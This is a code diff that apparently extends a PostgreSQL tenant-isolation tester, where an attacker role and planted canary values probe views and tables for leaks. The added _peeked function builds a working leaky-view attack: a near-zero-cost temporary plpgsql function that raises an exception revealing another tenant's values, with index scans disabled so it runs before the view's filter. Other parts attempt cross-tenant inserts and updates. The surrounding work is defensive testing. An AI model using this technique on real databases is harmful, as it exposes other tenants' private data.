@@ -78,7 +78,45 @@ def views_attacked(
                 statement = sql.SQL("select {} from {}").format(names, relation.identifier).as_string(None)
                 answer = arena.wire.run(statement)
                 yield relation, Reach(attacker, statement, answer, tuple(canaries.shown(answer.rows).items()))
+                if not canaries.shown(answer.rows):
+                    yield from ((relation, reach) for reach in _peeked(arena, attacker, relation, canaries))
             yield from ((relation, reach) for reach in _written(arena, attacker, relation, victim))
+
+
+def _peeked(arena: Arena, attacker: Attacker, relation: Relation, canaries: Canaries) -> Iterator[Reach]:
+    """A cheap function of the caller's in WHERE, which may be asked before the view's own condition.
+
+    Indexes are off: a scan of the tenant's own rows would hide it (manual, Rules and Privileges).
+    """
+    if relation.kind != "v" or any(
+        option.startswith("security_") for option in relation.options if not option.endswith(("off", "false"))
+    ):
+        return
+    base = _base(arena, relation)
+    texts = [
+        c for c in relation.allowed(attacker.identity.role, "select") if c.type in ("text", "character varying", "uuid")
+    ]
+    shown = [c for c in texts if base is not None and canaries.of(f"{base.label}.{c.name}")]
+    for column in shown[:2]:
+        values = canaries.of(f"{base.label}.{column.name}") if base else []
+        spy = (
+            "create function pg_temp.spy(text) returns boolean language plpgsql cost 0.0000001 as $spy$ begin"
+            f" if $1 = any ({sql.Literal(values).as_string(None)}) then raise exception 'seen: %', $1; end if;"
+            " return true; end $spy$"
+        )
+        arena.wire.back()
+        arena.wire.after(
+            "set local enable_indexscan = off; set local enable_bitmapscan = off; set local enable_indexonlyscan = off"
+        )
+        if arena.wire.after(spy).sqlstate is not None:
+            return
+        query = sql.SQL("select 1 from {} where pg_temp.spy({}::text)").format(
+            relation.identifier, sql.Identifier(column.name)
+        )
+        statement = query.as_string(None)
+        answer = arena.wire.after(statement)
+        if found := canaries.shown([(answer.message,)]):
+            yield Reach(attacker, f"{spy};\n{statement}", answer, tuple(found.items()))
 
 
 def _written(arena: Arena, attacker: Attacker, relation: Relation, victim: str) -> Iterator[Reach]:
@@ -105,12 +143,12 @@ def _written(arena: Arena, attacker: Attacker, relation: Relation, victim: str) 
             yield Reach(attacker, statement, answer)
 
 
-def _inserted(
-    arena: Arena, attacker: Attacker, base: Relation, marks: Marks, statement: str, victim: str
-) -> Reach:
+def _inserted(arena: Arena, attacker: Attacker, base: Relation, marks: Marks, statement: str, victim: str) -> Reach:
     """Insert a row of the victim's that was taken away: a constraint would speak before the view's check option."""
     row = arena.held(base.label, victim)[-1]
-    delete = sql.SQL("delete from {} where tableoid::text || ctid::text = {}").format(base.identifier, sql.Literal(row.place))
+    delete = sql.SQL("delete from {} where tableoid::text || ctid::text = {}").format(
+        base.identifier, sql.Literal(row.place)
+    )
     role = sql.Identifier(attacker.identity.role).as_string(None)
     arena.wire.back()
     arena.wire.after(
@@ -131,7 +169,9 @@ def _twin(arena: Arena, attacker: Attacker, base: Relation, victim: str) -> str:
     names = [c.name for c in base.columns if c.writable and c.name not in fixed | single]
     if not own or not theirs or not names:
         return ""
-    sets = sql.SQL(", ").join(sql.SQL("{} = {}").format(sql.Identifier(n), sql.Literal(theirs[-1].values[n])) for n in names)
+    sets = sql.SQL(", ").join(
+        sql.SQL("{} = {}").format(sql.Identifier(n), sql.Literal(theirs[-1].values[n])) for n in names
+    )
     update = sql.SQL("update {} set {} where tableoid::text || ctid::text = {}").format(
         base.identifier, sets, sql.Literal(own[0].place)
     )
